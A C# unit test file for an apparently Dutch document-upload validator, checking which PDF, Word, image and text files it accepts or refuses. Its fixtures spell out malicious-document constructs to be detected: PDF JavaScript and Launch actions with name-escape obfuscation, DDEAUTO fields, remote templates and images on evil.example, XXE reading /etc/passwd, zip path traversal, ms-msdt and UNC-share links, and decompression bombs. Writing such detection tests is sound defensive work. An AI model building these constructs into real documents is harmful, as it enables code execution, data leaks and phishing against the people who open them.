using System.Text;
using ReturnCase.Domain.Documents;
using ReturnCase.Tests.Support;
using ReturnCase.Web.Documents;

namespace ReturnCase.Tests.Documents;

public sealed class FileContentTests
{
    private const string Html = "<!DOCTYPE html><html><script>alert(1)</script></html>";

    private const string Hexadecimal = "312030203c3c2f532f4a6176615363726970743e3e>";
    private const string Script = "<</S/JavaScript/JS(app.alert(1))>>";

    public static TheoryData<string, byte[], DocumentFormat> Taken() => new()
    {
        { "brief.pdf", Papers.Pdf("Hallo"), DocumentFormat.Pdf },
        { "BRIEF.PDF", Papers.Pdf("Hallo"), DocumentFormat.Pdf },
        { "ingepakt.pdf", Papers.PdfOfPackedObjects("<</Type/Page/Contents 9 0 R>>"), DocumentFormat.Pdf },
        { "los.pdf", Papers.PdfOfPackedObjects("1 0 <</Type/Page>>", "/Type/ObjStm/N 1/First 4", pack: false), DocumentFormat.Pdf },
        { "foto.png", Papers.Png(), DocumentFormat.Png },
        { "foto.jpg", Papers.Jpeg(), DocumentFormat.Jpeg },
        { "foto.jpeg", [.. Papers.Jpeg(), 1, 2, 3], DocumentFormat.Jpeg },
        { "verslag.txt", Papers.Text("Zij zei: \u201Cja\u201D.\r\n\tEn toen \u0627\u0644\u0633\u0644\u0627\u0645."), DocumentFormat.Text },
        { "verslag.txt", [0xEF, 0xBB, 0xBF, .. Papers.Text("met merkteken")], DocumentFormat.Text },
        { "verslag.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("Zij zei: \u201Cja\u201D.")], DocumentFormat.Text },
        { "verslag.txt", [0xFE, 0xFF, .. Encoding.BigEndianUnicode.GetBytes("Zij zei: \u201Cja\u201D.")], DocumentFormat.Text },
        { "verslag.txt", [(byte)'c', (byte)'a', (byte)'f', 0xE9, (byte)'s', 0x80], DocumentFormat.Text },
        { "brief.docx", Papers.Docx(), DocumentFormat.Docx },
        { "brief.docx", Papers.Docx(("word/_rels/settings.xml.rels", """<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" Target="file:///C:\Sjablonen\brief.dotx" TargetMode="External"/></Relationships>""")), DocumentFormat.Docx },
    };

    public static TheoryData<string, byte[], FileFault> Refused() => new()
    {
        { "brief.pdf", Papers.Text(Html), FileFault.NotWhatItSays },
        { "brief.pdf", Papers.DocxBomb(30), FileFault.NotWhatItSays },
        { "brief.pdf", Papers.Zip(("../../etc/passwd", [1])), FileFault.NotWhatItSays },
        { "brief.pdf", Papers.Text("%PDF-1.7 en verder niets"), FileFault.Broken },
        { "brief.pdf", Papers.Text("%PDF-9.9\nstartxref\n0\n%%EOF"), FileFault.Broken },
        { "brief.pdf", Papers.Text("%PDF-1.4\n1 0 obj<</OpenAction<</S /JavaScript /JS (app.alert(1))>>>>endobj\nstartxref\n0\n%%EOF"), FileFault.CarriesProgram },
        { "verstopt.pdf", Papers.Text("%PDF-1.4\n1 0 obj<</OpenAction<</S /J#61vaScript /JS (app.alert(1))>>>>endobj\nstartxref\n0\n%%EOF"), FileFault.CarriesProgram },
        { "brief.pdf", Papers.Text("%PDF-1.4\n1 0 obj<</S/Launch/F(calc.exe)>>endobj\nstartxref\n0\n%%EOF"), FileFault.CarriesProgram },
        { "brief.pdf", Papers.Text("%PDF-1.4\n1 0 obj<</S/Launch%x\n/F(calc.exe)>>endobj\nstartxref\n0\n%%EOF"), FileFault.CarriesProgram },
        { "ingepakt.pdf", Papers.PdfOfPackedObjects(Script), FileFault.CarriesProgram },
        { "vervalst.pdf", Papers.PdfOfPackedObjects("<</S/J#61vaScript/JS(app.alert(1))>>"), FileFault.CarriesProgram },
        { "aan het eind.pdf", Papers.PdfOfPackedObjects("<</Names 2 0 R/EmbeddedFiles"), FileFault.CarriesProgram },
        { "ver weg.pdf", Papers.PdfOfPackedObjects(new string(' ', (64 * 1024) - 10) + Script), FileFault.CarriesProgram },
        { "zonder soort.pdf", Papers.PdfOfPackedObjects(Script, "/N 1/First 4/Filter/FlateDecode"), FileFault.CarriesProgram },
        { "in een tekst.pdf", Papers.PdfOfPackedObjects(Script, "/X(obj)/Type/ObjStm/N 1/First 4/Filter/FlateDecode"), FileFault.CarriesProgram },
        { "na een half deel.pdf", Papers.PdfOfPackedObjects(Script, before: "3 0 obj<</Length 9>>stream\nq 1 0 "), FileFault.CarriesProgram },
        { "anders ingepakt.pdf", Papers.PdfOfPackedObjects(Hexadecimal, "/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode", pack: false), FileFault.Unreadable },
        { "anders ingepakt.pdf", Papers.PdfOfPackedObjects(Hexadecimal, "/Type/Obj#53tm/N 1/First 4/Filter/ASCIIHexDecode", pack: false), FileFault.Unreadable },
        { "bom.pdf", Papers.PdfBombOfObjects(200), FileFault.Bomb },
        { "wachtwoord.pdf", Papers.Text("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R/Encrypt 5 0 R>>\nstartxref\n0\n%%EOF"), FileFault.Locked },
        { "wachtwoord.pdf", Papers.Text("%PDF-1.7\n1 0 obj<</Type/XRef/Root 1 0 R/En#63rypt<</Filter/Standard>>>>endobj\nstartxref\n0\n%%EOF"), FileFault.Locked },
        { "brief.pdf", [], FileFault.Empty },
        { "tekening.svg", Papers.Text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), FileFault.RunsInBrowser },
        { "tekening.png", Papers.Text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), FileFault.NotWhatItSays },
        { "tekening.txt", Papers.Text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), FileFault.NotWhatItSays },
        { "pagina.html", Papers.Text(Html), FileFault.RunsInBrowser },
        { "pagina.txt", Papers.Text($"\r\n {Html}"), FileFault.NotWhatItSays },
        { "brief.docm", Papers.Docx(), FileFault.CarriesProgram },
        { "brief.docx", Papers.Docx(("word/vbaProject.bin", "x")), FileFault.CarriesProgram },
        { "brief.docx", Papers.Docx(("word/embeddings/oleObject1.bin", "x")), FileFault.CarriesProgram },
        { "brief.docx", Papers.Zip(("[Content_Types].xml", Papers.Text("application/vnd.ms-word.document.macroEnabled.main+xml")), ("word/document.xml", Papers.Text("x"))), FileFault.CarriesProgram },
        { "brief.docx", Papers.Docx(("word/_rels/settings.xml.rels", """<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>""")), FileFault.CarriesProgram },
        { "brief.docx", Papers.DocxBomb(30), FileFault.Bomb },
        { "brief.docx", Papers.Zip([("[Content_Types].xml", Papers.Text("x")), ("word/document.xml", Papers.Text("x")), .. Enumerable.Range(0, 2_001).Select(i => ($"word/{i}", new byte[1]))]), FileFault.Bomb },
        { "brief.docx", Papers.Docx(("../../outside.xml", "x")), FileFault.NotWhatItSays },
        { "brief.docx", Papers.Zip(("xl/workbook.xml", Papers.Text("x"))), FileFault.NotWhatItSays },
        { "brief.docx", Papers.Docx()[..80], FileFault.Broken },
        { "brief.docx", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0, 0, 0, 0, 0, 0, 0, 0], FileFault.Locked },
        { "brief.docx", Papers.Pdf("Hallo"), FileFault.NotWhatItSays },
        { "foto.png", Papers.Png(60_000, 60_000), FileFault.TooManyPoints },
        { "foto.png", Papers.Png()[..^3], FileFault.Broken },
        { "foto.png", [.. Papers.Png(), .. Papers.Text(Html)], FileFault.Broken },
        { "foto.jpg", Papers.Png(), FileFault.NotWhatItSays },
        { "foto.jpg", Papers.Jpeg(65_000, 65_000), FileFault.TooManyPoints },
        { "foto.jpg", Papers.Jpeg()[..24], FileFault.Broken },
        { "programma.exe", [(byte)'M', (byte)'Z', 1], FileFault.CarriesProgram },
        { "programma.txt", [(byte)'M', (byte)'Z', 1], FileFault.NotWhatItSays },
        { "verslag.txt", [(byte)'a', 0, (byte)'b'], FileFault.NoText },
        { "verslag.txt", [0xFF, 0xFE, (byte)'a', 0, 0, 0], FileFault.NoText },
        { "verslag.txt", [(byte)'c', (byte)'a', (byte)'f', 0xE9, 0x81], FileFault.NoText },
        { "verslag.txt", [0xFF, 0xFE, (byte)'a', 0, 0x00, 0xD8], FileFault.NoText },
        { "verslag.txt", [0xFF, 0xFE, (byte)'a', 0, (byte)'b'], FileFault.NoText },
        { "pagina.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Html)], FileFault.NotWhatItSays },
        { "pdf", Papers.Pdf("Hallo"), FileFault.NameMissing },
        { "muziek.mp3", [1, 2, 3], FileFault.EndingNotTaken },
        { "zonder", Papers.Pdf("Hallo"), FileFault.EndingNotTaken },
    };

    [Theory]
    [MemberData(nameof(Taken))]
    public void What_is_what_it_says_is_taken(string name, byte[] content, DocumentFormat format)
    {
        using var stream = new MemoryStream(content);
        Assert.Equal(FileVerdict.Takes(format), FileContent.Judge(name, stream));
    }

    [Theory]
    [MemberData(nameof(Refused))]
    public void What_is_not_or_could_act_is_refused_with_its_own_fault(string name, byte[] content, FileFault fault)
    {
        using var stream = new MemoryStream(content);
        Assert.Equal(FileVerdict.Refuses(fault), FileContent.Judge(name, stream));
    }

    public static TheoryData<string> StaysInside() => new()
    {
        "/OpenAction[3 0 R /XYZ null null 0]", "/OpenAction 5 0 R", "/OpenAction<</S/GoTo/D[3 0 R/Fit]>>", "/OpenAction<</Type/Action/D(one)/S /GoTo >>", "/AA<<>>",
        "/Annots[<</Subtype/Link/A<</Type/Action/S/URI/URI(https://www.ind.nl/brief)>>>>]", "/OpenAction 5 0 R/A<</S/URI/URI(https://www.ind.nl)>>", "/A 7 0 R>>endobj 7 0 obj<</S/URI/URI(mailto:voogd@nidos.nl)",
        "/A<</S/URI/URI(file:///C:/Brieven/a.pdf)>>", "/Filter[/FlateDecode/DCTDecode]", "/A<</S/Named/N/NextPage>>", "/Soundness/Moviegoer/GoToRome",
    };

    public static TheoryData<string, FileFault> ReachesOut() => new()
    {
        { "/OpenAction<</S/URI/URI(https://evil.example/?v)>>", FileFault.ActsByItself },
        { "/OpenAction <</Type/Action %x\n/S /URI/URI (https://evil.example)>>", FileFault.ActsByItself },
        { "/Open#41ction<</S/U#52I/URI(https://evil.example)>>", FileFault.ActsByItself },
        { "/OpenAction 5 0 R>>endobj 5 0 obj<</S/URI/URI(https://evil.example)>>", FileFault.ActsByItself },
        { "/OpenAction%x\n5%y\n0 R/X<</S/URI/URI(https://evil.example)>>", FileFault.ActsByItself },
        { "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 9 0 R>>", FileFault.ActsByItself },
        { "/OpenAction<</S/Named/N/Print>>", FileFault.ActsByItself },
        { "/OpenAction 5 0 R/X<</S/Named/N/Print>>", FileFault.ActsByItself },
        { "/AA<</O<</S/URI/URI(https://evil.example)>>>>", FileFault.ActsByItself },
        { "/A#41 12 0 R", FileFault.ActsByItself },
        { "/AA%x\n<</WC 12 0 R>>", FileFault.ActsByItself },
        { "/S/SubmitForm/F(https://evil.example)", FileFault.ActsByItself },
        { "/S/Submit#46orm>>", FileFault.ActsByItself },
        { "/F(a)/S/ImportData>>", FileFault.ActsByItself },
        { "/S/GoToR/F(b.pdf)", FileFault.ActsByItself },
        { "/S /GoToE /T 4 0 R", FileFault.ActsByItself },
        { "/S/Rendition/OP 0", FileFault.ActsByItself },
        { "/Subtype/Sound ", FileFault.ActsByItself },
        { "/Subtype/Movie ", FileFault.ActsByItself },
        { "/Subtype/RichMedia ", FileFault.CarriesProgram },
        { "/F(calc.exe)/S/Launch>>", FileFault.CarriesProgram },
        { "/Type/Filespec/F(x)", FileFault.CarriesProgram },
        { "/FS/URL/F(https://evil.example)", FileFault.ActsByItself },
        { """/F(\\\\evil\\share\\a.pdf)""", FileFault.ActsByItself },
        { "/A<</S/URI/URI(file://evil/share)>>", FileFault.ActsByItself },
        { "/A<</S/URI/URI(javascript:alert)>>", FileFault.ActsByItself },
        { """/UF (\134\134evil)""", FileFault.ActsByItself },
        { "/F<5C5C6576696C>", FileFault.ActsByItself },
        { "/Filter[/FlateDecode /FlateDecode]", FileFault.Unreadable },
        { "/Filter[/Fl/ASCIIHexDecode/LZWDecode]", FileFault.Unreadable },
    };

    [Theory]
    [MemberData(nameof(StaysInside))]
    public void A_PDF_that_opens_at_a_page_or_has_links_to_press_is_taken(string words)
    {
        Assert.Equal(FileVerdict.Takes(DocumentFormat.Pdf), Judged("a.pdf", Papers.PdfWith(words)));
        Assert.Equal(FileVerdict.Takes(DocumentFormat.Pdf), Judged("a.pdf", Papers.PdfOfPackedObjects($"<<{words}>>")));
    }

    [Theory]
    [MemberData(nameof(ReachesOut))]
    public void A_PDF_that_reaches_out_is_refused_also_where_it_says_so_in_packed_objects_or_across_a_window(string words, FileFault fault)
    {
        Assert.Equal(FileVerdict.Refuses(fault), Judged("a.pdf", Papers.PdfWith(words)));
        Assert.Equal(FileVerdict.Refuses(fault), Judged("a.pdf", Papers.PdfOfPackedObjects($"<<{words}>>")));
        Assert.Equal(FileVerdict.Refuses(fault), Judged("a.pdf", Papers.PdfOfPackedObjects($"<<{new string(' ', (64 * 1024) - 30)}{words}>>")));
        Assert.Equal(FileVerdict.Refuses(fault), Judged("a.pdf", Papers.PdfWith(new string(' ', (256 * 1024) - 60) + words)));
        // Just as long as a window, the last words are read too.
        Assert.Equal(FileVerdict.Refuses(fault), Judged("a.pdf", Papers.PdfOfPackedObjects($"<<{words}".PadLeft((64 * 1024) - "1 0 ".Length))));
    }

    [Fact]
    public void What_is_packed_and_then_spoilt_is_read_up_to_there()
    {
        var paper = Papers.PdfOfPackedObjects("<</S/SubmitForm/F(x)>>" + new string(' ', 2_000));
        var end = paper.AsSpan().LastIndexOf("\r\nendstream"u8);
        paper.AsSpan(end - 12, 8).Fill(0xFF);
        Assert.Equal(FileFault.ActsByItself, Judged("a.pdf", paper).Fault);
    }

    [Fact]
    public void Behind_the_end_of_a_PDF_stands_nothing()
    {
        var pdf = Papers.Pdf("Hallo");
        Assert.Equal(FileVerdict.Takes(DocumentFormat.Pdf), Judged("a.pdf", [.. pdf, .. Papers.Text("\r\n\0\n ")]));
        Assert.Equal(FileVerdict.Takes(DocumentFormat.Pdf), Judged("a.pdf", [.. pdf, .. Papers.Text("\n12 0 obj<</Type/Page>>endobj\nstartxref\n0\n%%EOF\n")]));
        foreach (var behind in (byte[][])[Papers.Text(Html), Papers.Text($"\n{Html}\nstartxref\n0\n%%EOF"), Papers.Text("12 0 obj"), Papers.Docx(), [.. Papers.Docx(), .. Papers.Text("startxref 0 %%EOF")]])
            Assert.Equal(FileFault.MoreBehind, Judged("a.pdf", [.. pdf, .. behind]).Fault);
    }

    [Fact]
    public void A_page_that_unpacks_to_far_more_than_itself_is_refused_and_a_large_scan_is_not()
    {
        var bomb = Papers.PdfBomb(300);
        Assert.True(bomb.Length < 400 * 1024);
        Assert.Equal(FileFault.Bomb, Judged("a.pdf", bomb).Fault);
        Assert.Equal(FileVerdict.Takes(DocumentFormat.Pdf), Judged("a.pdf", Papers.PdfBomb(26)));
        var scattered = Papers.PdfBomb(30);
        Assert.Equal(FileFault.Bomb, Judged("a.pdf", [.. scattered, .. scattered[9..], .. scattered[9..], .. scattered[9..], .. scattered[9..]]).Fault);
    }

    private const string Word = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";

    public static TheoryData<string, string, FileFault> Inside() => new()
    {
        { "word/other.bin", "", FileFault.CarriesProgram },
        { "word/a.xml", $"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><w:ftr {Word}>&b;</w:ftr>", FileFault.CarriesProgram },
        { "word/a.dat", "\n<html><body>x</body></html>", FileFault.CarriesProgram },
        { "word/a.dat", "<p>half", FileFault.CarriesProgram },
        { "word/a.xml", "<p>half", FileFault.Broken },
        { "word/chunk.mht", "MIME-Version: 1.0", FileFault.CarriesProgram },
        { "word/header1.xml", $"<w:hdr {Word}><w:altChunk/></w:hdr>", FileFault.CarriesProgram },
        { "word/header1.xml", Field("DDEAUTO c:\\\\windows\\\\calc.exe"), FileFault.ActsByItself },
        { "word/header1.xml", Field("D", "DE excel x"), FileFault.ActsByItself },
        { "word/header1.xml", Field(" inc", "lude", "Text \"https://evil.example/a\""), FileFault.ActsByItself },
        { "word/header1.xml", Field("INCLUDEPICTURE \"https://evil.example/a.png\" \\d"), FileFault.ActsByItself },
        { "word/header1.xml", $"<w:hdr {Word}><w:fldSimple w:instr=\" &#68;DEAUTO x\"/></w:hdr>", FileFault.ActsByItself },
        { "word/header1.xml", Field("QUOTE 68 68 69 65"), FileFault.ActsByItself },
        { "word/header1.xml", $"<w:hdr {Word}>{Turn("begin")}{Turn("begin")}{Instruction("IF 1=1 x")}{Turn("separate")}<w:r><w:t>DDE</w:t></w:r>{Turn("end")}{Instruction("AUTO x")}{Turn("end")}</w:hdr>", FileFault.ActsByItself },
        { "word/header1.xml", Field("HYPERLINK \"\\\\\\\\evil\\\\share\""), FileFault.ActsByItself },
        { "word/_rels/a.rels", Relation("image", "https://evil.example/a.png"), FileFault.ActsByItself },
        { "word/_rels/a.rels", Relation("image", "//evil.example/a.png", null), FileFault.ActsByItself },
        { "word/_rels/a.rels", Relation("mailMergeSource", "file:///C:/a.mdb"), FileFault.ActsByItself },
        { "word/_rels/a.rels", Relation("hyperlink", "file://evil/share"), FileFault.ActsByItself },
        { "word/_rels/a.rels", Relation("hyperlink", "%5C%5Cevil%5Cshare"), FileFault.ActsByItself },
        { "word/_rels/a.rels", Relation("hyperlink", "ms-msdt:/id"), FileFault.ActsByItself },
        { "word/_rels/a.rels", Relation("attachedTemplate", "&#104;ttps://evil.example/a.dotm"), FileFault.CarriesProgram },
        { "word/_rels/a.rels", Relation("aFChunk", "part.dat", null), FileFault.CarriesProgram },
        { "word/_rels/a.rels", Relation("vbaProject", "other.bin", null), FileFault.CarriesProgram },
    };

    [Theory]
    [MemberData(nameof(Inside))]
    public void A_Word_document_is_judged_by_what_its_parts_are_and_say(string part, string words, FileFault fault) =>
        Assert.Equal(FileVerdict.Refuses(fault), Judged("a.docx", words.Length == 0
            ? Papers.Zip(("[Content_Types].xml", Papers.Text("""<Types><Override PartName="/word/other.bin" ContentType="application/vnd.ms-office.&#118;baProject"/></Types>""")), ("word/document.xml", Papers.Text("<a/>")), (part, [1]))
            : Papers.Docx((part, words))));

    [Theory]
    [InlineData("word/header1.xml", "PAGE \\* MERGEFORMAT")]
    [InlineData("word/header1.xml", "HYPERLINK \"https://example.org/link/hidden/import\" \\o \"rd\"")]
    [InlineData("word/header1.xml", "DATE \\@ \"dd-MM-yyyy\"")]
    [InlineData("word/_rels/document.xml.rels", null)]
    [InlineData("word/glossary/document.xml", "PAGE")]
    public void An_honest_Word_document_is_taken(string part, string? field) =>
        Assert.Equal(FileVerdict.Takes(DocumentFormat.Docx), Judged("a.docx", Papers.Zip(
            ("[Content_Types].xml", Papers.Text("""<Types><Default Extension="png" ContentType="image/png"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/glossary/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.glossary+xml"/></Types>""")),
            ("word/document.xml", Papers.Text("<a/>")), (part, Papers.Text(field is null ? Relation("hyperlink", "https://www.ind.nl/a") : Field(field))))));

    private static string Field(params string[] runs) => $"<w:hdr {Word}>{Turn("begin")}{string.Concat(runs.Select(Instruction))}{Turn("separate")}<w:r><w:t>zie DDE</w:t></w:r>{Turn("end")}</w:hdr>";

    private static string Turn(string type) => $"<w:r><w:fldChar w:fldCharType=\"{type}\"/></w:r>";

    private static string Instruction(string words) => $"<w:r><w:instrText>{words}</w:instrText></w:r>";

    private static string Relation(string type, string target, string? mode = "External") =>
        $"<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}\" Target=\"{target}\"{(mode is null ? "" : $" TargetMode=\"{mode}\"")}/></Relationships>";

    private static FileVerdict Judged(string name, byte[] content)
    {
        using var stream = new MemoryStream(content);
        return FileContent.Judge(name, stream);
    }

    [Fact]
    public void A_word_that_is_cut_by_the_window_is_found()
    {
        var before = Papers.Text("%PDF-1.4\n" + new string(' ', (256 * 1024) - 20));
        using var stream = new MemoryStream([.. before, .. Papers.Text("/S /JavaScript (x)\nstartxref\n0\n%%EOF")]);
        Assert.Equal(FileFault.CarriesProgram, FileContent.Judge("a.pdf", stream).Fault);
    }

    [Fact]
    public void Whatever_bytes_come_there_is_an_answer()
    {
        var random = new Random(2026);
        byte[][] seeds = [Papers.Pdf("a"), Papers.Png(), Papers.Jpeg(), Papers.Docx(), Papers.Text("abc")];
        string[] names = ["a.pdf", "a.png", "a.jpg", "a.docx", "a.txt"];
        for (var i = 0; i < 2_000; i++)
        {
            var bytes = seeds[i % seeds.Length].ToArray();
            for (var spoil = random.Next(1, 6); spoil > 0; spoil--)
                bytes[random.Next(bytes.Length)] = (byte)random.Next(256);
            using var stream = new MemoryStream(random.Next(3) == 0 ? bytes[..random.Next(bytes.Length)] : bytes);
            var verdict = FileContent.Judge(names[i % names.Length], stream);
            Assert.True(verdict.Format is null != verdict.Fault is null);
        }
    }
}
